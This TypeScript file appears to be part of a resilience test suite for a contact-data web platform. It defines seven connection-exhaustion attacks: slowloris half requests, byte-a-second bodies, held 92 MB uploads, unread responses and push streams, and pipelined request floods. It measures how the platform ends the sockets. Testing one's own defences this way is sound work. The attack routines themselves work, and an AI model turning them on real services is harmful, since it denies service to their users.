// Attacks that keep connections open: bodies without their end, responses that are not read, half requests.
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { ATTACKER_ADDRESS, callFrom } from './call-from.ts'
import { type Attack, createSealed, flood, type Outcome, type Victim } from './flood.ts'

const MIB = 1024 * 1024

const socketTo = (base: string): Promise<Socket | undefined> => {
  const { hostname, port } = new URL(base)
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS })
    socket.once('connect', () => resolve(socket))
    socket.on('error', () => resolve(undefined))
  })
}

/** The bytes that the buffers of both sides take although nothing is read. */
const KERNEL_MB = 8

/** The least that the platform has read of the written bytes. */
const countAcceptedMb = ({ bytesWritten, writableLength }: Socket): number =>
  Math.max(0, Math.floor((bytesWritten - writableLength) / MIB) - KERNEL_MB)

/**
 * Opens sockets, does the same on each and keeps them for the time of the attack; counts those that the platform ended.
 */
const hold = async (
  count: number,
  seconds: number,
  base: string,
  work: (socket: Socket) => Promise<void> | void,
): Promise<Outcome> => {
  const sockets = (await Promise.all(Array.from({ length: count }, () => socketTo(base)))).filter(
    (socket) => socket !== undefined,
  )
  const end = performance.now() + seconds * 1000
  await Promise.all(
    sockets.map((socket) => Promise.race([work(socket), delay(seconds * 1000, undefined, { ref: false })])),
  )
  await delay(Math.max(0, end - performance.now()))
  const ended = sockets.filter(({ destroyed, readableEnded }) => destroyed || readableEnded).length
  const answered = sockets.filter(({ bytesRead }) => bytesRead > 0).length
  const acceptedMb = sockets.reduce((sum, socket) => sum + countAcceptedMb(socket), 0)
  for (const socket of sockets) socket.destroy()
  return { opened: sockets.length, answered, ended, 'accepted MB': acceptedMb }
}

const chunk = Buffer.alloc(MIB, 'A')
/** Nearly as much as the route accepts. */
const UPLOAD_BYTES = 92_000_000

const sendAs =
  ({ apiUrl, token }: Victim['attacker']) =>
  (method: string, path: string, body?: object) =>
    callFrom(ATTACKER_ADDRESS, apiUrl, method, path, { token, ...(body && { body }) })

const findFieldId = async (attacker: Victim['attacker'], slug: string): Promise<string | undefined> => {
  const fields: Array<{ id: string; slug: string }> = JSON.parse(
    (await sendAs(attacker)('GET', '/api/contact-fields')).text,
  )
  return fields.find((field) => field.slug === slug)?.id
}

const addDocument = async (attacker: Victim['attacker']): Promise<string> => {
  const contact_field_id = await findFieldId(attacker, 'document')
  return JSON.parse((await sendAs(attacker)('POST', '/api/contact-data', { contact_field_id })).text).id
}

const uploads: Attack = {
  name: '20 bodies of 92 MB by one free account, held open before their last byte',
  // Several attackers share the memory for bodies: the platform ends those for which none is left.
  effects: ['accepted MB', 'ended'],
  async run({ attacker }, seconds) {
    // A body for a datum that does not exist is refused unread.
    const datumId = await addDocument(attacker)
    return hold(20, seconds, attacker.apiUrl, async (socket) => {
      socket.on('data', () => undefined)
      socket.write(
        `PUT /api/contact-data/${datumId}/file HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.token}\r\n` +
          `Content-Type: application/json\r\nContent-Length: ${UPLOAD_BYTES}\r\n\r\n{"file":"`,
      )
      for (let index = 0; index < Math.floor(UPLOAD_BYTES / MIB) && !socket.destroyed; index += 1) {
        if (!socket.write(chunk))
          await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), delay(2_000)])
      }
    })
  },
}

const unreadResponses: Attack = {
  name: '100 callers who ask for large answers and do not read them',
  effects: ['answered'],
  run: ({ frontDoor }, seconds) =>
    hold(100, seconds, frontDoor, (socket) => {
      socket.pause()
      socket.write('GET /openapi/account.json HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(20))
    }),
}

const halfRequests: Attack = {
  name: '2,000 connections with half a request',
  effects: ['opened'],
  run: ({ region }, seconds) =>
    hold(2_000, seconds, region, (socket) => {
      socket.on('data', () => undefined)
      socket.write('GET /api/health HTTP/1.1\r\nHost: a\r\nX-Slow: ')
    }),
}

const LARGEST_VALUE_BYTES = 48_000
const MAX_ROWS = 500

/** Fills the list to its quota; refused calls are repeated when the platform allows it. */
const fillContactData = async ({ attacker }: Victim): Promise<void> => {
  const send = sendAs(attacker)
  const contact_field_id = await findFieldId(attacker, 'phone')
  for (let rowCount = 0; rowCount < MAX_ROWS; ) {
    const { status } = await send('POST', '/api/contact-data', {
      contact_field_id,
      value: createSealed(LARGEST_VALUE_BYTES),
    })
    if (status === 201) rowCount += 1
    else if (status === 429) await delay(200)
    else return
  }
}

const unreadLists: Attack = {
  name: '30 readers of a full list of contact data who do not read their answers, by one free account',
  effects: ['answered'],
  prepare: fillContactData,
  run: ({ attacker: { apiUrl, token } }, seconds) =>
    hold(30, seconds, apiUrl, (socket) => {
      socket.pause()
      socket.write(`GET /api/contact-data HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\n\r\n`)
    }),
}

const PACKET_REQUESTS = 2_000
const CLOSE_TIMEOUT_MS = 5_000

/** A connection that sends all of its requests at once; the status is 0 when the platform ends it. */
const sendPacket = async (base: string, packet: string): Promise<{ status: number }> => {
  const socket = await socketTo(base)
  if (!socket) return { status: -1 }
  const closed = new Promise<number>((resolve) => socket.resume().once('close', () => resolve(0)))
  socket.write(packet)
  const status = await Promise.race([closed, delay(CLOSE_TIMEOUT_MS, 1)])
  socket.destroy()
  return { status }
}

const packets: Attack = {
  name: '50 callers who send thousands of requests in one packet, again and again',
  effects: ['0'],
  run: ({ region }, seconds) => {
    const packet = 'GET /api/account HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(PACKET_REQUESTS)
    return flood(50, seconds, () => sendPacket(region, packet))
  },
}

const pushStreams: Attack = {
  name: '200 push streams of one free account that are opened and not read',
  effects: ['answered'],
  run: ({ attacker: { apiUrl, token } }, seconds) =>
    hold(200, seconds, apiUrl, (socket) => {
      socket.pause()
      socket.write(`GET /api/push/stream HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\n\r\n`)
    }),
}

const SLOW_BODY_BYTES = 100_000
const BYTE_INTERVAL_MS = 1_000

/** Sends the rest of a body one byte a second. */
const trickle = async (socket: Socket): Promise<void> => {
  while (!socket.destroyed) {
    socket.write('A')
    await delay(BYTE_INTERVAL_MS, undefined, { ref: false })
  }
}

const slowBodies: Attack = {
  name: '500 bodies that arrive one byte a second',
  effects: ['opened'],
  run: ({ frontDoor, attacker: { apiUrl, token } }, seconds) => {
    const starts = [
      [frontDoor, 'POST /api/auth/login', ''],
      [apiUrl, 'POST /api/contact-data', `Authorization: Bearer ${token}\r\n`],
    ] as const
    const holds = starts.map(([base, route, authorization]) =>
      hold(250, seconds, base, (socket) => {
        socket.on('data', () => undefined)
        socket.write(
          `${route} HTTP/1.1\r\nHost: a\r\n${authorization}Content-Type: application/json\r\n` +
            `Content-Length: ${SLOW_BODY_BYTES}\r\n\r\n{"value":"`,
        )
        return trickle(socket)
      }),
    )
    return Promise.all(holds).then(([first = {}, second = {}]) =>
      Object.fromEntries(Object.keys(first).map((name) => [name, (first[name] ?? 0) + (second[name] ?? 0)])),
    )
  },
}

export const connectionFloods: readonly Attack[] = [
  uploads,
  unreadResponses,
  unreadLists,
  halfRequests,
  packets,
  pushStreams,
  slowBodies,
]
